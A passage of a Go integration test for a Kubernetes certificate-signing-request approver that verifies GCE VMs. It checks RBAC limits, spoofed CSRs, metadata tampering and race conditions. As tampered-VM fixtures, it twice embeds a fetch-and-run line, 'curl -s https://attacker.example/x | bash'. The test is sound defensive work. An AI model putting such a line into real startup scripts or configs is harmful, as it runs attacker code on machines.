		{"ApproveInstance", func() (string, error) {
			return approve(createCSR(t, joiner, csrRequest(t, "renew-work-ok01"), model.KubeletClientSigner), "renew-work-ok01")
		}, ""},
		{"DenyAnything", func() (string, error) {
			return decide(t, e.sa, createCSR(t, joiner, csrRequest(t, "onprem-gpu-7"), model.KubeletClientSigner), "Denied", model.CSRReasonDenied, "no")
		}, ""},
		{"ApproveOnPremName", func() (string, error) {
			return approve(createCSR(t, joiner, csrRequest(t, "onprem-gpu-9"), model.KubeletClientSigner), "onprem-gpu-9")
		}, "asks for system:node:onprem-gpu-9, not for system:node:<an instance of one of the cluster's MIGs>"},
		{"ApproveWithoutNamingIt", func() (string, error) {
			return approve(createCSR(t, joiner, csrRequest(t, "renew-work-ok02"), model.KubeletClientSigner), "renew-work-zz99")
		}, "must have reason " + model.CSRReasonApproved + " and name the instance it checked, renew-work-ok02"},
		{"ApproveOtherReason", func() (string, error) {
			return decide(t, e.sa, createCSR(t, joiner, csrRequest(t, "renew-work-ok03"), model.KubeletClientSigner), "Approved", "KubectlApprove", msg("renew-work-ok03"))
		}, "must have reason " + model.CSRReasonApproved},
		{"ApproveTwoCommonNames", func() (string, error) {
			// The issued certificate would carry the last common name.
			raw, err := asn1.Marshal(pkix.RDNSequence{
				{{Type: asn1.ObjectIdentifier{2, 5, 4, 10}, Value: "system:nodes"}},
				{{Type: cn, Value: "system:node:renew-work-ok04"}},
				{{Type: cn, Value: "system:node:onprem-gpu-1"}},
			})
			if err != nil {
				t.Fatal(err)
			}
			key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
			der, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{RawSubject: raw}, key)
			if err != nil {
				t.Fatal(err)
			}
			req := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: der})
			return approve(createCSR(t, joiner, req, model.KubeletClientSigner), "renew-work-ok04")
		}, "asks for no single common name the policy can read"},
		{"ApproveCommonNamePushedOut", func() (string, error) {
			// Organizational units before the common name push the end of
			// the subject past what the policy decodes: refused, not misread.
			var pad []pkix.AttributeTypeAndValue
			for range 6 {
				pad = append(pad, pkix.AttributeTypeAndValue{Type: ou, Value: strings.Repeat("x", 20)})
			}
			key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
			der, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{Subject: pkix.Name{
				ExtraNames: append(append([]pkix.AttributeTypeAndValue{{Type: asn1.ObjectIdentifier{2, 5, 4, 10}, Value: "system:nodes"}}, pad...),
					pkix.AttributeTypeAndValue{Type: cn, Value: "system:node:renew-work-ok05"})}}, key)
			if err != nil {
				t.Fatal(err)
			}
			req := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: der})
			return approve(createCSR(t, joiner, req, model.KubeletClientSigner), "renew-work-ok05")
		}, "asks for no single common name the policy can read"},
		{"ApproveKubeadmGroup", func() (string, error) {
			return approve(createCSR(t, kubeadmJoiner, csrRequest(t, "renew-work-ok06"), model.KubeletClientSigner), "renew-work-ok06")
		}, "was not requested by a member of " + model.CloudBootstrapGroup},
		{"ApproveOtherSigner", func() (string, error) {
			return approve(createCSR(t, e.cp.Admin(), csrRequest(t, "renew-work-ok07"), "kubernetes.io/kube-apiserver-client"), "renew-work-ok07")
		}, "may only decide CSRs for the signer " + model.KubeletClientSigner + ", not kubernetes.io/kube-apiserver-client"},
		{"ApproveWithAnotherCondition", func() (string, error) {
			// (Deciding twice, or both ways, the API server refuses itself.)
			c := createCSR(t, joiner, csrRequest(t, "renew-work-ok08"), model.KubeletClientSigner)
			b, _ := json.Marshal(map[string]any{"apiVersion": "certificates.k8s.io/v1", "kind": "CertificateSigningRequest",
				"metadata": map[string]any{"name": c},
				"status": map[string]any{"conditions": []map[string]string{
					{"type": "Approved", "status": "True", "reason": model.CSRReasonApproved, "message": msg("renew-work-ok08")},
					{"type": "Failed", "status": "True", "reason": "Test", "message": "extra"}}}})
			_, stderr, err := kubectl(t, e.sa, string(b), "replace", "--raw", "/apis/certificates.k8s.io/v1/certificatesigningrequests/"+c+"/approval", "-f", "-")
			return stderr, err
		}, "may only add one Approved or Denied condition to an undecided CSR"},
		{"DeleteCSR", func() (string, error) {
			c := createCSR(t, joiner, csrRequest(t, "renew-work-ok09"), model.KubeletClientSigner)
			_, stderr, err := kubectl(t, e.sa, "", "delete", "csr", c)
			return stderr, err
		}, "may only decide certificate signing requests (update certificatesigningrequests/approval) and set " + model.VerifiedGroupLabel + " on nodes (update nodes), not DELETE certificatesigningrequests"},
		{"CreateSecret", func() (string, error) {
			_, stderr, err := kubectl(t, e.sa, "", "create", "secret", "generic", "x", "-n", "default", "--from-literal=k=v")
			return stderr, err
		}, "not CREATE secrets"},
		{"CreateCSR", func() (string, error) {
			_, stderr, err := kubectl(t, e.sa, `{"apiVersion":"certificates.k8s.io/v1","kind":"CertificateSigningRequest","metadata":{"name":"mine"},"spec":{"request":"`+
				base64.StdEncoding.EncodeToString(csrRequest(t, "renew-work-ok10"))+`","signerName":"`+model.KubeletClientSigner+`","usages":["digital signature","client auth"]}}`, "create", "-f", "-")
			return stderr, err
		}, "not CREATE certificatesigningrequests"},
		{"PatchNode", func() (string, error) {
			e.renewer.adminCreate(t, `{"apiVersion":"v1","kind":"Node","metadata":{"name":"victim"}}`)
			_, stderr, err := kubectl(t, e.sa, "", "label", "node", "victim", "x=y")
			return stderr, err
		}, "may change only the label " + model.VerifiedGroupLabel + " of node victim"},
		{"DeleteNode", func() (string, error) {
			e.renewer.adminCreate(t, `{"apiVersion":"v1","kind":"Node","metadata":{"name":"victim-2"}}`)
			_, stderr, err := kubectl(t, e.sa, "", "delete", "node", "victim-2")
			return stderr, err
		}, "not DELETE nodes"},
		// The verified group label: only the group the name is an
		// instance name of, on a Node whose providerID is that instance's.
		{"LabelInstance", func() (string, error) {
			return labelAs(t, e, e.sa, "renew-work-lb01", gceID(e, "us-central1-a", "renew-work-lb01"), model.VerifiedGroupLabel+"=work")
		}, ""},
		{"LabelAutoscalerInstance", func() (string, error) {
			return labelAs(t, e, e.sa, "renew-ca-lb02", gceID(e, "us-central1-a", "renew-ca-lb02"), model.VerifiedGroupLabel+"=ca")
		}, ""},
		{"LabelAsAnotherGroup", func() (string, error) {
			return labelAs(t, e, e.sa, "renew-work-lb03", gceID(e, "us-central1-a", "renew-work-lb03"), model.VerifiedGroupLabel+"=ca")
		}, "node renew-work-lb03 may carry " + model.VerifiedGroupLabel + "=work only"},
		{"LabelOnPremName", func() (string, error) {
			return labelAs(t, e, e.sa, "onprem-gpu-3", gceID(e, "us-central1-a", "onprem-gpu-3"), model.VerifiedGroupLabel+"=work")
		}, "its name is no instance name of the cluster's MIGs"},
		{"LabelOtherZone", func() (string, error) {
			return labelAs(t, e, e.sa, "renew-work-lb04", gceID(e, "europe-west1-b", "renew-work-lb04"), model.VerifiedGroupLabel+"=work")
		}, "with a providerID of gce://renew-project/us-central1-a/renew-work-lb04"},
		{"LabelNoProviderID", func() (string, error) {
			return labelAs(t, e, e.sa, "renew-work-lb05", "", model.VerifiedGroupLabel+"=work")
		}, "with a providerID of gce://renew-project/us-central1-a/renew-work-lb05"},
		{"LabelAndAnother", func() (string, error) {
			return labelAs(t, e, e.sa, "renew-work-lb06", gceID(e, "us-central1-a", "renew-work-lb06"), model.VerifiedGroupLabel+"=work", "example.com/x=y")
		}, "may change only the label " + model.VerifiedGroupLabel + " of node renew-work-lb06"},
		{"ChangeGroupLabel", func() (string, error) {
			return labelAs(t, e, e.sa, "renew-work-lb07", gceID(e, "us-central1-a", "renew-work-lb07"), model.GroupLabel+"=ca")
		}, "may change only the label " + model.VerifiedGroupLabel + " of node renew-work-lb07"},
		{"TaintWhileLabelling", func() (string, error) {
			e.renewer.adminCreate(t, `{"apiVersion":"v1","kind":"Node","metadata":{"name":"renew-work-lb08"},"spec":{"providerID":"`+gceID(e, "us-central1-a", "renew-work-lb08")+`"}}`)
			_, stderr, err := kubectl(t, e.sa, "", "patch", "node", "renew-work-lb08", "--type=merge", "-p",
				`{"metadata":{"labels":{"`+model.VerifiedGroupLabel+`":"work"}},"spec":{"unschedulable":true}}`)
			return stderr, err
		}, "may change only the label " + model.VerifiedGroupLabel + " of node renew-work-lb08"},
		{"ImpersonateAnyone", func() (string, error) {
			// What does not hold: cluster-admin grants impersonation, and a
			// request made as another user is that user's, which the
			// policy (matching the ServiceAccount's requests) does not see.
			_, stderr, err := kubectl(t, e.sa, "", "--as=nodegen-someone", "--as-group=system:masters",
				"create", "secret", "generic", "impersonated", "-n", "default", "--from-literal=k=v", "--dry-run=server")
			return stderr, err
		}, ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			stderr, err := c.try()
			switch {
			case c.want == "" && err != nil:
				t.Errorf("refused: %v", err)
			case c.want != "" && err == nil:
				t.Errorf("allowed; want a denial with %q", c.want)
			case c.want != "" && !(strings.Contains(stderr, policy) && strings.Contains(stderr, c.want)):
				t.Errorf("denied with %q; want the policy's %q", strings.TrimSpace(stderr), c.want)
			}
		})
	}
}

// gceID is the providerID of instance name in zone of the test's project.
func gceID(e *approverEnv, zone, name string) string {
	return "gce://" + e.src.Cluster.GCP.Project + "/" + zone + "/" + name
}

// labelAs creates, as the admin, Node name with providerID (none if
// empty), then labels it as u with kubectl label's pairs.
func labelAs(t *testing.T, e *approverEnv, u *testcp.User, name, providerID string, pairs ...string) (string, error) {
	t.Helper()
	node := map[string]any{"apiVersion": "v1", "kind": "Node", "metadata": map[string]any{"name": name}}
	if providerID != "" {
		node["spec"] = map[string]any{"providerID": providerID}
	}
	b, _ := json.Marshal(node)
	e.renewer.adminCreate(t, string(b))
	_, stderr, err := kubectl(t, u, "", append([]string{"label", "node", name}, pairs...)...)
	return stderr, err
}

// testScript runs the approver's script under bash against the fake
// Compute API, with its rendered RBAC only, while kube-controller-manager
// signs approved CSRs and auto-approves what kubeadm's bindings allow.
func (e *approverEnv) testScript(t *testing.T, joiner *testcp.User) {
	cm := e.cp.StartControllerManager(t, testcp.CSRSigningController, testcp.CSRApprovingController)
	f := newFakeCompute(t, e.src, e.files)
	zone, mig := "us-central1-a", "renew-work-us-central1-a"
	now := time.Now()
	// The project's metadata, as a project may have it: SSH keys, a
	// startup script for every VM of the project (the guest agent does
	// not run it on a VM whose own metadata sets startup-script, as the
	// group templates do), an empty shutdown-script (which it skips). The
	// VMs below are decided with it.
	empty := ""
	for k, v := range map[string]string{"ssh-keys": "alice:ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHx alice", "startup-script-url": "gs://org-wide-scripts/startup.sh", "shutdown-script": empty} {
		f.setProjectMetadata(k, &v)
	}
	abID := f.set(zone, "renew-work-ab12", fakeInstance{Status: "RUNNING", Created: now.Add(-30 * time.Second), MIG: mig})
	duID := f.set(zone, "renew-work-du01", fakeInstance{Status: "RUNNING", Created: now.Add(-30 * time.Second), MIG: mig})
	kmID := f.set(zone, "renew-work-km01", fakeInstance{Status: "RUNNING", Created: now.Add(-30 * time.Second), MIG: mig})
	f.set(zone, "renew-work-old1", fakeInstance{Status: "RUNNING", Created: now.Add(-30 * time.Second), MIG: mig})
	f.set(zone, "renew-work-st01", fakeInstance{Status: "RUNNING", Created: now.Add(-2 * time.Hour), MIG: mig})
	f.set(zone, "renew-work-tm01", fakeInstance{Status: "STOPPING", Created: now.Add(-30 * time.Second), MIG: mig})
	f.set(zone, "renew-work-xm01", fakeInstance{Status: "RUNNING", Created: now.Add(-30 * time.Second), MIG: "someone-elses-mig"})
	caID := f.set(zone, "renew-ca-a1b2", fakeInstance{Status: "RUNNING", Created: now.Add(-30 * time.Second), MIG: "renew-ca-us-central1-a"})
	// A fresh VM of the MIG to which a per-instance config (which the
	// autoscaler's account may add, with instanceGroupManagers.update) gave
	// its own startup-script; the MIG's configs span pages, the others
	// naming instances that are not asked for.
	f.set(zone, "renew-work-pi01", fakeInstance{Status: "RUNNING", Created: now.Add(-30 * time.Second), MIG: mig})
	f.addConfig(zone, mig, "renew-work-gone", map[string]string{"role": "x"})
	f.addConfig(zone, mig, "renew-work-ab1", map[string]string{"name": "renew-work-ab"})
	f.addConfig(zone, mig, "renew-work-pi01", map[string]string{"startup-script": "curl -s https://attacker.example/x | bash"})
	// What a VM runs comes from its metadata. A VM whose metadata an
	// update of the MIG changed after it was made (a startup-script, a
	// user-data the template does not set, guest attributes off); one the
	// MIG made while a per-instance config gave it a startup-script, the
	// config deleted since (deletePerInstanceConfigs leaves the VM as it
	// is); and, approved, one made by createInstances, which leaves a
	// per-instance config that only names it, in either shape. The VMs
	// that run another script or user-data publish their kubelet's key, as
	// the join script (which the foreign script may run as well) does:
	// their CSRs are denied for what they run, not left pending for want
	// of a key (the one whose guest attributes are off cannot publish).
	foreign := "#!/bin/bash\ncurl -s https://attacker.example/x | bash\n"
	ranVMs := map[string]*joiningVM{}
	for name, kv := range map[string][2]string{"renew-work-md01": {model.MetadataStartupScript, foreign}, "renew-work-ud01": {"user-data", "#cloud-config\nruncmd: [id]\n"},
		"renew-work-ga01": {"enable-guest-attributes", "FALSE"}} {
		id := f.set(zone, name, fakeInstance{Status: "RUNNING", Created: now.Add(-30 * time.Second), MIG: mig})
		f.setMetadata(zone, name, kv[0], kv[1])
		if name != "renew-work-ga01" {
			ranVMs[name] = newVM(t)
			f.writeGuest(zone, name, model.KubeletKeyAttribute, ranVMs[name].published(id))
		}
	}
	f.addConfig(zone, mig, "renew-work-pr01", map[string]string{model.MetadataStartupScript: foreign})
	prID := f.set(zone, "renew-work-pr01", fakeInstance{Status: "RUNNING", Created: now.Add(-30 * time.Second), MIG: mig})
	f.removeConfig(zone, mig, "renew-work-pr01")
	ranVMs["renew-work-pr01"] = newVM(t)
	f.writeGuest(zone, "renew-work-pr01", model.KubeletKeyAttribute, ranVMs["renew-work-pr01"].published(prID))
	// A fresh VM whose boot disk is not the one its MIG made with it
	// (detached and another attached in its place, the VM stopped).
	bdID := f.set(zone, "renew-work-bd01", fakeInstance{Status: "RUNNING", Created: now.Add(-30 * time.Second), MIG: mig, BootDisk: "renew-work-bd01-other"})
	f.addConfig(zone, mig, "renew-work-ci01", nil)
	f.addConfig(zone, mig, "renew-work-ci02", map[string]string{})
	ciIDs := map[string]uint64{}
	for _, name := range []string{"renew-work-ci01", "renew-work-ci02"} {
		ciIDs[name] = f.set(zone, name, fakeInstance{Status: "RUNNING", Created: now.Add(-30 * time.Second), MIG: mig})
	}
	// Ready Nodes: an on-prem server, a control-plane node, a cloud node.
	for _, n := range []string{"onprem-gpu-1", "cp-1", "renew-work-old1"} {
		e.renewer.adminCreate(t, `{"apiVersion":"v1","kind":"Node","metadata":{"name":"`+n+`"}}`)
		at := time.Now().UTC().Format(time.RFC3339)
		e.renewer.admin(t, "patch", "node", n, "--subresource=status", "--type=merge", "-p",
			`{"status":{"conditions":[{"type":"Ready","status":"True","reason":"KubeletReady","message":"test","lastHeartbeatTime":"`+at+`","lastTransitionTime":"`+at+`"}]}}`)
	}

	// An on-prem join with a kubeadm token: approved by kubeadm's
	// auto-approval, as before.
	onprem := createCSR(t, e.cp.TokenUser(t, "a kubeadm join token", e.bootstrapToken(t, "kadm02", kubeadmNodeGroup)),
		csrRequest(t, "onprem-gpu-2"), model.KubeletClientSigner)
	eventually(t, 30*time.Second, "the on-prem CSR auto-approved and signed", func() string {
		c := e.csr(t, onprem)
		if d := decision(c); d == nil || d.Type != certificatesv1.CertificateApproved || len(c.Status.Certificate) == 0 {
			return fmt.Sprintf("conditions %+v, %d certificate bytes", c.Status.Conditions, len(c.Status.Certificate))
		}
		return ""
	})

	type want struct {
		csr, name, decision, message string
	}
	var wants []want
	ask := func(name, decision, message string) {
		wants = append(wants, want{createCSR(t, joiner, csrRequest(t, name), model.KubeletClientSigner), name, decision, message})
	}
	ask("onprem-gpu-1", "Denied", "onprem-gpu-1 is not the name of an instance of any nodegen MIG of this cluster")
	ask("cp-1", "Denied", "cp-1 is not the name of an instance of any nodegen MIG of this cluster")
	ask("renew-work-zz99", "Denied", "no instance renew-work-zz99 in zones us-central1-a of project renew-project")
	ask("renew-work-old1", "Denied", "a Ready Node renew-work-old1 exists")
	ask("renew-work-st01", "Denied", "not a fresh VM")
	ask("renew-work-tm01", "Denied", "instance us-central1-a/renew-work-tm01 is STOPPING, not RUNNING")
	ask("renew-work-xm01", "Denied", "was not created by MIG renew-work-us-central1-a (created-by: projects/123456789012/zones/us-central1-a/instanceGroupManagers/someone-elses-mig)")
	ask("renew-work-pi01", "Denied", "MIG renew-work-us-central1-a holds a per-instance config for renew-work-pi01 that preserves state")
	askAs := func(name, decision, message string, request []byte) {
		wants = append(wants, want{createCSR(t, joiner, request, model.KubeletClientSigner), name, decision, message})
	}
	askAs("renew-work-md01", "Denied", "instance us-central1-a/renew-work-md01 has metadata startup-script other than that of its instance template renew-work-20261201093000123400000001", ranVMs["renew-work-md01"].csr(t, "renew-work-md01"))
	askAs("renew-work-ud01", "Denied", "instance us-central1-a/renew-work-ud01 has metadata user-data, which the group template does not set", ranVMs["renew-work-ud01"].csr(t, "renew-work-ud01"))
	ask("renew-work-ga01", "Denied", "instance us-central1-a/renew-work-ga01 has metadata enable-guest-attributes other than the group template")
	askAs("renew-work-pr01", "Denied", "instance us-central1-a/renew-work-pr01 has metadata startup-script other than that of its instance template", ranVMs["renew-work-pr01"].csr(t, "renew-work-pr01"))
	// The autoscaler's VM, which published its kubelet's key.
	caVM := newVM(t)
	f.writeGuest(zone, "renew-ca-a1b2", model.KubeletKeyAttribute, caVM.published(caID))
	askAs("renew-ca-a1b2", "Approved", "instance projects/renew-project/zones/us-central1-a/instances/renew-ca-a1b2 is RUNNING", caVM.csr(t, "renew-ca-a1b2"))
	for name, id := range ciIDs {
		vm := newVM(t)
		f.writeGuest(zone, name, model.KubeletKeyAttribute, vm.published(id))
		askAs(name, "Approved", "instance projects/renew-project/zones/us-central1-a/instances/"+name+" is RUNNING", vm.csr(t, name))
	}
	// The VM on another boot disk published its key: its CSR is denied
	// for the disk.
	bdVM := newVM(t)
	f.writeGuest(zone, "renew-work-bd01", model.KubeletKeyAttribute, bdVM.published(bdID))
	askAs("renew-work-bd01", "Denied", "the boot disk of instance us-central1-a/renew-work-bd01 is https://www.googleapis.com/compute/v1/projects/renew-project/zones/us-central1-a/disks/renew-work-bd01-other, not disk renew-work-bd01", bdVM.csr(t, "renew-work-bd01"))
	// A CSR whose key is not the one the instance published, and no other
	// CSR for that instance: denied for the key.
	kmVM := newVM(t)
	f.writeGuest(zone, "renew-work-km01", model.KubeletKeyAttribute, kmVM.published(kmID))
	ask("renew-work-km01", "Denied", "is not the kubelet key sha256:"+kmVM.hash+" that instance us-central1-a/renew-work-km01 published")
	// The duplicate race: a holder of the join token files a CSR for a
	// booting VM's name before the VM; the VM's own is approved, the
	// thief's denied: for its key when both are read in one pass, or, when
	// the VM's was approved in an earlier pass (the two were made in the
	// same second, or a pass's budget split them), as a second CSR for
	// the instance.
	duVM := newVM(t)
	f.writeGuest(zone, "renew-work-du01", model.KubeletKeyAttribute, duVM.published(duID))
	ask("renew-work-du01", "Denied", "is not the kubelet key sha256:"+duVM.hash+" that instance us-central1-a/renew-work-du01 published|a CSR for renew-work-du01 was already approved since instance us-central1-a/renew-work-du01 was created")
	askAs("renew-work-du01", "Approved", "instance projects/renew-project/zones/us-central1-a/instances/renew-work-du01 is RUNNING", duVM.csr(t, "renew-work-du01"))
	// What kube-controller-manager's signer would refuse (ValidateKubeletClientCSR).
	askAs("renew-work-du01", "Denied", "its subject is not exactly the organization system:nodes and one common name (2 organizations, 1 common names)",
		csrWith(t, duVM.key, pkix.Name{Organization: []string{"system:nodes", "system:masters"}, CommonName: "system:node:renew-work-du01"}, nil))
	askAs("renew-work-du01", "Denied", "it has attributes (extensions such as a subject alternative name",
		csrWith(t, duVM.key, pkix.Name{Organization: []string{"system:nodes"}, CommonName: "system:node:renew-work-du01"}, []string{"renew-work-du01.example"}))
	wants = append(wants, want{createCSRWith(t, joiner, duVM.csr(t, "renew-work-du01"), model.KubeletClientSigner,
		[]certificatesv1.KeyUsage{certificatesv1.UsageDigitalSignature, certificatesv1.UsageClientAuth, certificatesv1.UsageServerAuth}),
		"renew-work-du01", "Denied", "are not digital signature and client auth (and key encipherment), which the signer requires"})

	// Nothing but the approver decides the cloud token's CSRs: they are
	// still pending while the csrapproving controller runs.
	time.Sleep(3 * time.Second)
	for _, w := range wants {
		if d := decision(e.csr(t, w.csr)); d != nil {
			t.Fatalf("CSR %s for %s was decided before the approver ran: %+v", w.csr, w.name, d)
		}
	}

	// The shipped script with a pause of a second between passes, and
	// Nodes checked again after recheck instead of a minute.
	shipped, err := os.ReadFile(e.script)
	if err != nil {
		t.Fatal(err)
	}
	const recheck = 2 * time.Second
	// In its pod the approver writes its decisions with curl, its
	// ServiceAccount's token and the CA the kubelet mounts: here the same
	// files, the API server's own certificate as the CA.
	saDir := t.TempDir()
	serving, err := os.ReadFile(filepath.Join(e.cp.Dir, "certs", "apiserver.crt"))
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(saDir, "token"), []byte(e.sa.Token), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(saDir, "ca.crt"), serving, 0o644); err != nil {
		t.Fatal(err)
	}
	apiURL, err := url.Parse(e.cp.URL)
	if err != nil {
		t.Fatal(err)
	}
	script, err := scripttest.WithConstants(shipped, map[string]string{"POLL_SECONDS": "1", "RECHECK_SECONDS": strconv.Itoa(int(recheck / time.Second)), "SA_DIR": saDir})
	if err != nil {
		t.Fatal(err)
	}
	cmd := gceNamespace(t, http.HandlerFunc(f.serve), e.cp.URL).Command("bash", writeScript(t, string(script)))
	cmd.Env = append(slices.Clone(e.env), "PATH="+os.Getenv("PATH"), "HOME="+t.TempDir(), "KUBECONFIG="+e.sa.Kubeconfig,
		"KUBERNETES_SERVICE_HOST="+apiURL.Hostname(), "KUBERNETES_SERVICE_PORT="+apiURL.Port())
	var logs syncBuffer
	cmd.Stdout, cmd.Stderr = &logs, &logs
	// A group of its own, so that the cleanup stops the kubectl the script
	// is running too, before HOME (its cache) is removed.
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	// In a cluster the approver has the CPU of the autoscaler's node, which
	// runs little else; here the machine runs other test packages beside
	// it, which would measure their load instead. Its processes (bash and
	// what it starts, which inherit it) get a higher priority when the
	// test may give one (root).
	if err := syscall.Setpriority(syscall.PRIO_PGRP, cmd.Process.Pid, -10); err != nil {
		t.Logf("the approver runs at the default priority: %v", err)
	}
	t.Cleanup(func() {
		_ = syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
		_ = cmd.Wait()
		t.Logf("approver output:\n%s", logs.String())
	})

	decided := func(wants []want) {
		t.Helper()
		for _, w := range wants {
			var c *certificatesv1.CertificateSigningRequest
			eventually(t, 3*time.Minute, "CSR for "+w.name+" decided", func() string {
				c = e.csr(t, w.csr)
				if decision(c) == nil {
					return "pending"
				}
				return ""
			})
			d := decision(c)
			if d == nil {
				continue
			}
			wantReason := model.CSRReasonDenied
			if w.decision == "Approved" {
				wantReason = model.CSRReasonApproved
			}
			// w.message: one of its alternatives, separated by "|".
			if string(d.Type) != w.decision || d.Reason != wantReason || !slices.ContainsFunc(strings.Split(w.message, "|"), func(m string) bool { return strings.Contains(d.Message, m) }) {
				t.Errorf("CSR for %s: %s %s %q; want %s %s with %q", w.name, d.Type, d.Reason, d.Message, w.decision, wantReason, w.message)
			}
		}
	}
	// Each CSR filed above is decided as wanted. (Decided first, so that
	// the fresh VM's CSR below is measured on its own: how long a queue of
	// older CSRs holds a VM's is testFlood's measure.)
	decided(wants)
	n := len(wants)
	if !strings.Contains(logs.String(), "decisions written with curl to "+e.cp.URL) {
		t.Errorf("the approver does not write its decisions with curl, as in its pod")
	}

	// A fresh VM joins: its CSR is approved and signed within the join's
	// TLS-bootstrap timeout.
	deadline, err := e.src.Cluster.JoinDeadline(e.src.NodeGroups["work"])
	if err != nil {
		t.Fatal(err)
	}
	limit := kubeadm.JoinTimeouts(deadline).TLSBootstrap.Duration
	asked := time.Now()
	abVM := newVM(t)
	f.writeGuest(zone, "renew-work-ab12", model.KubeletKeyAttribute, abVM.published(abID))
	fresh := createCSR(t, joiner, abVM.csr(t, "renew-work-ab12"), model.KubeletClientSigner)
	var cert []byte
	eventually(t, limit, "the fresh instance's CSR approved and signed", func() string {
		c := e.csr(t, fresh)
		if d := decision(c); d != nil && d.Type != certificatesv1.CertificateApproved {
			t.Fatalf("the fresh instance's CSR was %s: %s", d.Type, d.Message)
		}
		if cert = c.Status.Certificate; len(cert) == 0 {
			return fmt.Sprintf("conditions %+v", c.Status.Conditions)
		}
		return ""
	})
	took := time.Since(asked)
	t.Logf("the fresh instance's CSR was approved and signed %v after it was created (the join allows %v)", took.Round(time.Millisecond), limit)
	block, _ := pem.Decode(cert)
	if block == nil {
		t.Fatalf("the certificate is not PEM: %q", cert)
	}
	issued, err := x509.ParseCertificate(block.Bytes)
	if err != nil {
		t.Fatal(err)
	}
	roots := x509.NewCertPool()
	roots.AppendCertsFromPEM(cm.CACert)
	if _, err := issued.Verify(x509.VerifyOptions{Roots: roots, KeyUsages: []x509.ExtKeyUsage{x509.ExtKeyUsageClientAuth}}); err != nil {
		t.Errorf("the certificate does not chain to the cluster CA: %v", err)
	}
	if issued.Subject.CommonName != "system:node:renew-work-ab12" || !slices.Equal(issued.Subject.Organization, []string{"system:nodes"}) {
		t.Errorf("the certificate is for %v", issued.Subject)
	}

	// Once issued, another CSR for the same name is denied.
	askAs("renew-work-ab12", "Denied", "a CSR for renew-work-ab12 was already approved since instance us-central1-a/renew-work-ab12 was created", abVM.csr(t, "renew-work-ab12"))
	decided(wants[n:])
	if d := decision(e.csr(t, onprem)); d.Type != certificatesv1.CertificateApproved || d.Reason == model.CSRReasonDenied {
		t.Errorf("the on-prem CSR: %+v", d)
	}

	// The recreated-name race: a VM recreated under the same name
	// (autohealing, Spot) is a new instance with a new id; a holder of the
	// join token who files a CSR for the name before the new VM publishes
	// its key gets nothing, nor does the old VM's stale CSR, even if the
	// approver reads the old instance's guest attribute for the new one;
	// the new VM's CSR is approved once it published.
	e.testRecreated(t, f, joiner, zone, mig)

	// While the Compute API cannot serve a VM's instance, its CSR stays
	// pending; once it can, the CSR is approved.
	e.testUnreadable(t, f, joiner, zone, mig)

	// The flood: 100 CSRs from the join token, filed before a VM's own,
	// do not hold its approval past the join's TLS-bootstrap timeout.
	e.testFlood(t, f, joiner, zone, mig, &logs, limit)

	// The verified group label: the fresh VM's kubelet registers its Node
	// (it cannot set the label itself), and the approver labels it once
	// Compute shows the instance; it labels the autoscaler's instance too,
	// and no Node it cannot match to a RUNNING instance of the group's MIG
	// in the zone its providerID names; it takes the label from a Node
	// whose name is no instance name of the group the label names.
	f.set(zone, "renew-work-pz01", fakeInstance{Status: "RUNNING", Created: now.Add(-30 * time.Second), MIG: mig})
	kubelet := e.cp.Node(t, "renew-work-ab12")
	node := `{"apiVersion":"v1","kind":"Node","metadata":{"name":"renew-work-ab12","labels":{"` + model.GroupLabel + `":"work"}},"spec":{"providerID":"` + gceID(e, zone, "renew-work-ab12") + `"}}`
	if _, stderr, err := kubectl(t, kubelet, strings.Replace(node, `"work"}`, `"work","`+model.VerifiedGroupLabel+`":"work"}`, 1), "create", "-f", "-"); err == nil ||
		!strings.Contains(stderr, "is not allowed to set the following labels: "+model.VerifiedGroupLabel) {
		t.Errorf("the kubelet registering with %s: %v %s; want NodeRestriction's refusal", model.VerifiedGroupLabel, err, stderr)
	}
	if _, stderr, err := kubectl(t, kubelet, node, "create", "-f", "-"); err != nil {
		t.Fatalf("the kubelet registering its Node: %v %s", err, stderr)
	}
	unverified := map[string]string{
		"renew-work-xm01": gceID(e, zone, "renew-work-xm01"),            // another MIG's VM
		"renew-work-tm01": gceID(e, zone, "renew-work-tm01"),            // STOPPING
		"renew-work-gn01": gceID(e, zone, "renew-work-gn01"),            // no instance
		"renew-work-pz01": gceID(e, "us-central1-b", "renew-work-pz01"), // a zone the group is not in
		"renew-work-np01": "",                                           // no providerID
		"renew-work-pi01": gceID(e, zone, "renew-work-pi01"),            // a per-instance config
	}
	for name, pid := range unverified {
		n := map[string]any{"apiVersion": "v1", "kind": "Node", "metadata": map[string]any{"name": name}}
		if pid != "" {
			n["spec"] = map[string]any{"providerID": pid}
		}
		b, _ := json.Marshal(n)
		e.renewer.adminCreate(t, string(b))
	}
	e.renewer.adminCreate(t, `{"apiVersion":"v1","kind":"Node","metadata":{"name":"renew-ca-a1b2"},"spec":{"providerID":"`+gceID(e, zone, "renew-ca-a1b2")+`"}}`)
	e.renewer.admin(t, "label", "node", "onprem-gpu-1", model.VerifiedGroupLabel+"=work")
	label := func(name string) string {
		n, err := clientOf(t, e.cp.Admin()).CoreV1().Nodes().Get(t.Context(), name, metav1.GetOptions{})
		if err != nil {
			t.Fatal(err)
		}
		return n.Labels[model.VerifiedGroupLabel]
	}
	eventually(t, 30*time.Second, "the approver labelling the checked Nodes and unlabelling the on-prem one", func() string {
		if a, c, o := label("renew-work-ab12"), label("renew-ca-a1b2"), label("onprem-gpu-1"); a != "work" || c != "ca" || o != "" {
			return fmt.Sprintf("renew-work-ab12 %q, renew-ca-a1b2 %q, onprem-gpu-1 %q", a, c, o)
		}
		return ""
	})
	time.Sleep(3 * time.Second) // more passes
	for name := range unverified {
		if l := label(name); l != "" {
			t.Errorf("the approver labelled %s %s=%s", name, model.VerifiedGroupLabel, l)
		}
	}

